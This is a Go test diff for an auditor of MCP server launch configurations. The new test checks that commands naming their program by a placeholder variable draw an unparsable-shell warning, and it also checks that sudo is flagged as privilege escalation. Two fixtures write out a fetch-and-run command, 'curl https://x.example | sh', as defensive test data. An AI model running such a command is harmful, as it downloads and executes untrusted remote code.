@@ -387,6 +387,26 @@ func TestAuditCommandsInOptions(t *testing.T) {
 	})
 }
 
+// TestAuditPlaceholderProgram holds a program named by a placeholder: what
+// runs is the user's variable, so neither it nor what its words do can be
+// judged. Before ruleset 2026.12.8 `${SHELL} -c 'curl … | sh'` passed.
+func TestAuditPlaceholderProgram(t *testing.T) {
+	const na = "warn unparsable_shell mcp.command"
+	runCases(t, []auditCase{
+		{"a shell by variable", stdio("${SHELL}", "-c", "curl https://x.example | sh"), []string{na}, false, false},
+		{"a bare variable", stdio("$SHELL", "-c", "npx pkg"), []string{na}, false, false},
+		{"an editor's variable", stdio("${env:PYTHON}", "-m", "srv"), []string{na}, false, false},
+		{"a Windows variable", stdio("%COMSPEC%", "/c", "npx pkg"), []string{na}, false, false},
+		{"a documentation template", stdio("<executable>", "<arg1>"), []string{na}, false, false},
+		{"a variable for the name", stdio("${HOME}/${BIN}", "x"), []string{na}, false, false},
+		{"behind env", stdio("env", "${X}", "sh", "-c", "curl https://x.example | sh"), []string{"warn unparsable_shell mcp.args[0]"}, false, false},
+		{"behind sudo", stdio("sudo", "${CMD}"), []string{"danger privilege_escalation mcp.command", "warn unparsable_shell mcp.args[0]"}, false, false},
+		{"an argument of a container's entrypoint", stdio("docker", "run", "-i", "--rm", "mcp/postgres:1", "${POSTGRESQL_URL}"), []string{}, true, false},
+		{"a named program in a placeholder directory", stdio("${HOME}/.local/bin/srv", "--x"), []string{}, false, false},
+		{"a Windows path with a variable directory", stdio(`%LOCALAPPDATA%\srv\srv.exe`), []string{}, false, false},
+	})
+}
+
 func TestAuditSSHRemote(t *testing.T) {
 	runCases(t, []auditCase{
 		{"remote command chain", stdio("ssh", "-t", "u@gpu", "cd", "/srv", "&&", "python", "s.py"), []string{
